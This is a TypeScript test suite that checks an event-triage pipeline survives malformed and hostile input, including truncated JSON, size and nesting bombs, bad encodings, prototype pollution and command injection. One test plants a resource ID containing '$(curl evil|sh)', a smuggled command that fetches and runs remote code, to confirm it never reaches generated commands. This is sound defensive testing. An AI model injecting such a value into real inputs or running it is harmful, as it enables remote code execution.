import { describe, expect, it } from 'vitest';

import type { InputBody } from '../../src/core/types.js';
import { triage, type TriageResult } from '../../src/pipeline/triage.js';
import { RECONSTRUCTED, fixtureBytes, fixtureJson } from '../helpers/fixtures.js';
import { expectValidEnrichedEvent, expectValidRejectedRecord } from '../helpers/schema.js';

type Envelope = { records: Array<{ properties: Record<string, unknown> } & Record<string, unknown>> };

const GOOD = fixtureBytes(RECONSTRUCTED);
const goodRecord = () => fixtureJson<Envelope>(RECONSTRUCTED).records[0]!;

/** Runs a batch and checks the invariants every batch must keep, whatever its content. */
function run(bodies: unknown[]): TriageResult {
  const inputs: InputBody[] = bodies.map((body, bodyIndex) => ({
    body,
    origin: { bodyIndex, partitionId: '3', sequenceNumber: 1000 + bodyIndex },
  }));
  const result = triage(inputs);
  const s = result.stats;
  expect(s.bodies).toBe(bodies.length);
  expect(s.records).toBe(s.findings + s.resolutions + s.ignored.total + s.rejected.total);
  expect(result.rejected).toHaveLength(s.rejected.total);
  for (const rejection of result.rejected) {
    expectValidRejectedRecord(rejection);
    expect(rejection.origin.partitionId).toBe('3');
    expect(rejection.raw.length).toBeLessThanOrEqual(4096 + 8);
  }
  for (const event of result.events) expectValidEnrichedEvent(event);
  // Every body shows up somewhere: as a record of some kind.
  const seen = new Set([
    ...result.rejected.map((r) => r.origin.bodyIndex),
    ...result.events.map((e) => e.source.bodyIndex),
  ]);
  for (const event of result.events) expect(seen.has(event.source.bodyIndex)).toBe(true);
  return result;
}

const reasons = (result: TriageResult) => result.rejected.map((rejection) => rejection.reason);

describe('hostile input: nothing throws, every input is accounted for, good records survive', () => {
  it('an empty batch', () => {
    expect(run([]).stats).toMatchObject({ bodies: 0, records: 0, findings: 0 });
  });

  it('truncated JSON at many cut points, next to a good body', () => {
    const text = GOOD.toString('utf8');
    const cuts = [1, 10, 100, 500, 1000, 2000, 3000, text.length - 2];
    const result = run([...cuts.map((cut) => text.slice(0, cut)), GOOD]);
    expect(reasons(result)).toEqual(cuts.map(() => 'invalid_json'));
    expect(result.stats.findings).toBe(1);
  });

  it('empty, whitespace and null bodies', () => {
    const result = run(['', '   \n', Buffer.alloc(0), null, undefined, GOOD]);
    expect(reasons(result)).toEqual(['empty_body', 'empty_body', 'empty_body', 'empty_body', 'empty_body']);
    expect(result.stats.findings).toBe(1);
  });

  it('unknown shapes and scalar JSON', () => {
    const result = run(['{"foo":1}', '42', '"hello"', 'true', 'null', '[]', { hello: 'world' }, 7, true, GOOD]);
    expect(reasons(result)).toEqual([
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unsupported_type',
      'unsupported_type',
    ]);
    expect(result.stats).toMatchObject({ findings: 1, records: 11 });
  });

  it('wrong types inside an envelope: every record judged on its own', () => {
    const wrongStatus = { ...goodRecord(), properties: { ...goodRecord().properties, JobStatus: 42 } };
    const objectCode = { ...goodRecord(), properties: { ...goodRecord().properties, JobFailureCode: ['a'] } };
    const nullProps = { ...goodRecord(), properties: null };
    const result = run([
      { records: 'nope' },
      { records: [1, 'a', null, [], true, wrongStatus, objectCode, nullProps, goodRecord()] },
    ]);
    expect(reasons(result)).toEqual([
      'invalid_field:records',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'unknown_shape',
      'invalid_field:JobFailureCode',
      'missing_field:JobOperation',
    ]);
    expect(result.stats.ignored.byReason).toEqual({ 'status:42': 1 });
    expect(result.stats.findings).toBe(1);
  });

  it('nulls where values belong', () => {
    const record = goodRecord();
    const nulls = Object.fromEntries(Object.keys(record.properties).map((key) => [key, null]));
    const result = run([
      {
        records: [
          { ...record, properties: nulls },
          { ...record, category: null, properties: nulls },
        ],
      },
    ]);
    expect(reasons(result)).toEqual(['missing_field:JobOperation', 'unknown_shape']);
  });

  it('huge strings: a 10 MB code is rejected, a 2 MB description is cut', () => {
    const huge = 'X'.repeat(10 * 1024 * 1024);
    const record = { ...goodRecord(), properties: { ...goodRecord().properties, JobFailureCode: huge } };
    const result = run([{ records: [record, goodRecord()] }]);
    expect(reasons(result)).toEqual(['invalid_field:JobFailureCode']);
    expect(result.rejected[0]!.rawTruncated).toBe(true);
    expect(result.stats.findings).toBe(1);
  });

  it('a body over 50 MB is rejected before any parsing', () => {
    const body = Buffer.alloc(50 * 1024 * 1024 + 1, 0x20);
    const result = run([body, GOOD]);
    expect(reasons(result)).toEqual(['too_large']);
    expect(result.rejected[0]!.rawBytes).toBe(body.length);
  });

  it('an envelope of more than 100,000 records is rejected as a whole, with its size', () => {
    const records = Array.from({ length: 100_001 }, () => ({}));
    const result = run([JSON.stringify({ records }), GOOD]);
    expect(reasons(result)).toEqual(['too_many_records']);
    expect(result.rejected[0]!.detail).toContain('100001');
  });

  it('deep nesting, at the top and inside a record', () => {
    const bomb = '['.repeat(200_000) + ']'.repeat(200_000);
    let nested: unknown = 'deep';
    for (let i = 0; i < 10_000; i += 1) nested = { a: nested };
    const deepRecord = { ...goodRecord(), properties: { ...goodRecord().properties, ExtendedProperties: nested } };
    const result = run([bomb, { records: [deepRecord, goodRecord()] }]);
    expect(reasons(result)).toEqual(['too_deep', 'too_deep']);
    expect(result.stats.findings).toBe(1);
  });

  it('non-UTF-8 bytes are kept in base64', () => {
    const bytes = Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0xc3, 0x28, 0x7d]);
    const result = run([bytes, GOOD]);
    expect(reasons(result)).toEqual(['invalid_utf8']);
    expect(result.rejected[0]!.raw).toBe(`base64:${bytes.toString('base64')}`);
  });

  it('UTF-16 with a byte-order mark and a UTF-8 BOM are read', () => {
    const text = GOOD.toString('utf8');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const bom8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), GOOD]);
    expect(run([utf16, bom8]).stats.findings).toBe(1);
  });

  it('a double-encoded JSON body is unwrapped once', () => {
    expect(run([JSON.stringify(GOOD.toString('utf8'))]).stats.findings).toBe(1);
  });

  it('a circular object from the host is rejected without a crash', () => {
    const loop: Record<string, unknown> = { foo: 1 };
    loop['self'] = loop;
    const result = run([loop, GOOD]);
    expect(reasons(result)).toEqual(['too_deep']);
  });

  it('a __proto__ key does not pollute objects', () => {
    const text = `{"__proto__":{"polluted":true},"records":${JSON.stringify([goodRecord()])}}`;
    run([text]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('hostile names never reach a command unescaped', () => {
    const record = goodRecord();
    const evil =
      '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/vm$(curl evil|sh)';
    const result = run([
      { records: [{ ...record, properties: { ...record.properties, DatasourceResourceId: evil } }] },
    ]);
    const commands = result.events.flatMap((event) => event.causes.flatMap((cause) => cause.commands));
    expect(commands.length).toBeGreaterThan(0);
    for (const command of commands) expect(command.text).not.toContain('$(curl');
    expect(commands.some((command) => !command.complete && command.text.includes('<vmName>'))).toBe(true);
  });
});
